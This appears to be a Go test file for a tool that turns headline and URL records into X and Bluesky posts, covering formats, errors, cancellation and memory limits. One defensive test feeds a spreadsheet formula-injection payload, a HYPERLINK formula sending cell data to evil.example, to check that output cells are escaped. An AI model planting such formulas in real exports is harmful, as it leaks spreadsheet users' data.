package batch

import (
	"bytes"
	"compress/gzip"
	"context"
	"errors"
	"io"
	"strings"
	"sync"
	"testing"
)

// TestRunOneNetworkNeverSinksTheOthers: a URL Bluesky's post cannot hold
// gives the record X's link and post, Bluesky's error in its place, in
// every output format, and counts the record as an error record.
func TestRunOneNetworkNeverSinksTheOthers(t *testing.T) {
	u := "https://example.com/" + strings.Repeat("a", 400)
	in := "headline,url\nStorm hits Brittany," + u + "\n"
	recs, sum, err := run(t, in, Options{InputFormat: "csv", Networks: []string{"x", "bluesky"}})
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 1 || sum.Errors != 1 {
		t.Fatalf("got %d records, %d errors; want 1 partial record counted as an error: %+v", len(recs), sum.Errors, recs)
	}
	r := recs[0]
	if r.Error != "" || r.Links["x"] == "" || r.Posts["x"] == "" {
		t.Errorf("record = %+v; want X's link and post and no record error", r)
	}
	if v, ok := r.Links["bluesky"]; !ok || v != "" || r.NetErrs["bluesky"] == "" || strings.HasPrefix(r.NetErrs["bluesky"], "share:") {
		t.Errorf("bluesky: link %q (present %v), network_errors %q; want null and a reason without the share: prefix", v, ok, r.NetErrs["bluesky"])
	}

	var w bytes.Buffer
	if _, err := Run(context.Background(), "in", strings.NewReader(in), &w, Options{InputFormat: "csv", OutputFormat: "csv", Networks: []string{"x", "bluesky"}}); err != nil {
		t.Fatal(err)
	}
	rows := readRows(t, w.String(), ',')
	row := rows[1]
	// file,line,headline,url,tags,x_link,bluesky_link,x_post,bluesky_post,error,input
	if row[5] == "" || row[6] != "" || row[7] == "" || row[8] != "" || !strings.HasPrefix(row[9], "bluesky: ") {
		t.Errorf("csv row = %q; want X's link and post, Bluesky's empty, its error in the error column", row)
	}
}

func readRows(t *testing.T, s string, sep rune) [][]string {
	t.Helper()
	var rows [][]string
	for _, l := range strings.Split(strings.TrimSuffix(s, "\n"), "\n") {
		rows = append(rows, splitCSVLine(l, sep))
	}
	return rows
}

// splitCSVLine splits one csv line whose quoted fields hold no line break.
func splitCSVLine(l string, sep rune) []string {
	var out []string
	var cur strings.Builder
	quoted := false
	for i := 0; i < len(l); i++ {
		c := l[i]
		switch {
		case quoted && c == '"' && i+1 < len(l) && l[i+1] == '"':
			cur.WriteByte('"')
			i++
		case c == '"':
			quoted = !quoted
		case !quoted && rune(c) == sep:
			out = append(out, cur.String())
			cur.Reset()
		default:
			cur.WriteByte(c)
		}
	}
	return append(out, cur.String())
}

// TestRunOneRecordPerInputLine: a blank line gives an empty record in csv
// and tsv as it does in txt (and an error record in jsonl, where a blank
// line is no object): as many output records as input lines.
func TestRunOneRecordPerInputLine(t *testing.T) {
	tests := []struct {
		format, in string
		errs       int64
	}{
		{"txt", "A storm\n\nB storm\n", 0},
		{"csv", "headline,url\nA storm,\n\nB storm,\n", 0},
		{"tsv", "headline\turl\nA storm\t\n\nB storm\t\n", 0},
		{"jsonl", "{\"headline\":\"A storm\"}\n\n{\"headline\":\"B storm\"}\n", 1},
	}
	for _, tt := range tests {
		t.Run(tt.format, func(t *testing.T) {
			recs, sum, err := run(t, tt.in, Options{InputFormat: tt.format})
			if err != nil {
				t.Fatal(err)
			}
			if len(recs) != 3 || sum.Errors != tt.errs {
				t.Fatalf("%s: %d records, %d errors; want 3 and %d: %+v", tt.format, len(recs), sum.Errors, tt.errs, recs)
			}
			if tt.errs == 0 && (recs[1].Headline != "" || len(recs[1].Tags) != 0 || recs[1].Error != "") {
				t.Errorf("%s: blank line record = %+v; want an empty record", tt.format, recs[1])
			}
			if recs[1].Line != recs[0].Line+1 || recs[2].Line != recs[1].Line+1 {
				t.Errorf("%s: lines %d, %d, %d; want consecutive", tt.format, recs[0].Line, recs[1].Line, recs[2].Line)
			}
		})
	}
}

// TestRunTSVReadsQuotesLiterally: IANA TSV has no quoting, so a headline
// that opens with a quote is read as it is; TSVQuoted reads the Excel
// dialect, where the same line is a quoted field.
func TestRunTSVReadsQuotesLiterally(t *testing.T) {
	in := "headline\turl\n\"Muslim Brotherhood\" facing troubled times\thttps://example.com/a\n\"quoted\ttab\"\thttps://example.com/b\n"
	recs, sum, err := run(t, in, Options{InputFormat: "tsv"})
	if err != nil {
		t.Fatal(err)
	}
	if sum.Errors != 1 || len(recs) != 2 || recs[0].Headline != `"Muslim Brotherhood" facing troubled times` || recs[0].URL != "https://example.com/a" {
		t.Fatalf("literal tsv: %+v (%d errors); want the quotes kept and the 3-field line an error record", recs, sum.Errors)
	}
	recs, sum, err = run(t, in, Options{InputFormat: "tsv", TSVQuoted: true})
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 2 || recs[1].Headline != "quoted\ttab" || recs[0].Error == "" {
		t.Fatalf("quoted tsv: %+v; want the Excel dialect: a quoted tab kept, the stray quote an error", recs)
	}
}

// TestRunCSVFormulaInjectionNeutralised: cells a spreadsheet would run get
// a leading ' in csv and tsv output, unless KeepFormulas.
func TestRunCSVFormulaInjectionNeutralised(t *testing.T) {
	heads := []string{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, "+1", "-1", "@SUM(A1)", "\tTab", "Plain", "-"}
	var in strings.Builder
	in.WriteString("headline,url\n")
	for _, h := range heads {
		in.WriteString(`"` + strings.ReplaceAll(h, `"`, `""`) + `",https://example.com/a` + "\n")
	}
	for _, keep := range []bool{false, true} {
		for _, format := range []string{"csv", "tsv"} {
			var w bytes.Buffer
			_, err := Run(context.Background(), "in", strings.NewReader(in.String()), &w, Options{InputFormat: "csv", OutputFormat: format, Networks: []string{"x"}, KeepFormulas: keep})
			if err != nil {
				t.Fatal(err)
			}
			sep := ','
			if format == "tsv" {
				sep = '\t'
			}
			rows := readRows(t, w.String(), sep)
			for i, h := range heads {
				row := rows[i+1]
				want := h
				if !keep && h != "Plain" && h != "-" {
					want = "'" + h
				}
				// headline (2) and the X post (6), which starts with it
				// (but for the tab, which the post's cleaning drops)
				// A lone "-" is text; its post "- https://…" is not.
				if row[2] != want || h[0] != '\t' && h != "-" && !strings.HasPrefix(row[6], want) {
					t.Errorf("%s keep=%v: headline cell %q, post cell %q; want both to start %q", format, keep, row[2], row[6], want)
				}
			}
		}
	}
}

// TestRunJSONLKeysMatchExactly: only "headline" and "url" are read, and a
// key that differs from one of the record's own keys only in case is an
// error record, since a reader matching keys without case would take one
// for the other.
func TestRunJSONLKeysMatchExactly(t *testing.T) {
	in := `{"headline":"Storm","url":"https://safe.example/a","URL":"https://other.example/b"}` + "\n" +
		`{"Headline":"x","headline":"Storm"}` + "\n" +
		`{"headline":"Storm","url":"https://safe.example/a","Source":"wire"}` + "\n"
	recs, sum, err := run(t, in, Options{InputFormat: "jsonl", Networks: []string{"x"}})
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 3 || sum.Errors != 2 || !strings.Contains(recs[0].Error, `"URL" differs from "url" only in case`) || !strings.Contains(recs[1].Error, `"Headline"`) {
		t.Fatalf("records = %+v; want the two records with case-folded duplicates refused", recs)
	}
	if recs[2].URL != "https://safe.example/a" || !strings.Contains(recs[2].Links["x"], "safe.example") {
		t.Errorf("record = %+v; want its own url's links", recs[2])
	}
}

// endless is an input that never ends: lines as fast as they are read.
type endless struct{ n int }

func (e *endless) Read(p []byte) (int, error) {
	line := "Storm hits the coast again\n"
	n := 0
	for n+len(line) <= len(p) {
		n += copy(p[n:], line)
	}
	e.n += n
	return n, nil
}

// firstWrite cancels its context at the first write.
type firstWrite struct {
	cancel context.CancelFunc
	once   sync.Once
}

func (w *firstWrite) Write(p []byte) (int, error) {
	w.once.Do(w.cancel)
	return len(p), nil
}

// TestRunStopsWhenContextEnds: a run over an input that never ends returns
// context.Canceled once its context is cancelled, having read a bounded
// amount.
func TestRunStopsWhenContextEnds(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	in := &endless{}
	_, err := Run(ctx, "in", in, &firstWrite{cancel: cancel}, Options{Workers: 2})
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("Run error %v; want context.Canceled", err)
	}
}

// TestRunGzipErrorSaysGzipOnce: a broken gzip header is reported with one
// "gzip: " prefix, not two.
func TestRunGzipErrorSaysGzipOnce(t *testing.T) {
	_, err := Run(context.Background(), "in.gz", bytes.NewReader([]byte{0x1f, 0x8b, 0, 0, 0}), io.Discard, Options{})
	if err == nil || strings.Count(err.Error(), "gzip:") != 1 {
		t.Fatalf("error %v; want one gzip: prefix", err)
	}
	var gz bytes.Buffer
	zw := gzip.NewWriter(&gz)
	io.WriteString(zw, "one\n")
	zw.Close()
	if _, err := Run(context.Background(), "in.gz", &gz, io.Discard, Options{}); err != nil {
		t.Fatalf("good gzip: %v", err)
	}
}

// budget is a Budget of a fixed size.
type budget struct {
	mu        sync.Mutex
	left, max int
}

func (b *budget) Grow(n int) bool {
	b.mu.Lock()
	defer b.mu.Unlock()
	if n > b.left {
		return false
	}
	b.left -= n
	return true
}

func (b *budget) Release(n int) {
	b.mu.Lock()
	b.left += n
	b.mu.Unlock()
}

// TestLineBufferGrowsWithInput: with a 1 GiB line limit the reader buffers
// no more than readBuf up front, still reads a line longer than that whole,
// and a budget too small for a line makes it an error record, given back
// in full at the end of the run.
func TestLineBufferGrowsWithInput(t *testing.T) {
	lr := newLineReader(strings.NewReader("short\n"), 1<<30)
	if lr.br.Size() > readBuf {
		t.Fatalf("buffer of %d bytes for a 1 GiB limit; want at most %d", lr.br.Size(), readBuf)
	}
	long := strings.Repeat("word ", 40<<10) // 200 KiB
	recs, sum, err := run(t, "a\n"+long+"\nBravo storm\n", Options{MaxLineBytes: 1 << 30})
	if err != nil || sum.Errors != 0 || len(recs) != 3 || len(recs[1].Tags) == 0 {
		t.Fatalf("200 KiB line under a 1 GiB limit: %d records, %d errors, %v; want 3 good records", len(recs), sum.Errors, err)
	}
	b := &budget{left: 64 << 10, max: 64 << 10}
	recs, sum, err = run(t, "a\n"+long+"\nBravo storm\n", Options{MaxLineBytes: 1 << 30, Budget: b})
	if err != nil || sum.Errors != 1 || len(recs) != 3 || !strings.Contains(recs[1].Error, "memory budget") || len(recs[2].Tags) == 0 || recs[2].Tags[0] != "Bravo" {
		t.Fatalf("over the budget: %+v, %d errors, %v; want the long line an error record and the next one read", recs, sum.Errors, err)
	}
	if b.left != b.max {
		t.Errorf("budget left %d of %d after the run; want all of it given back", b.left, b.max)
	}
}
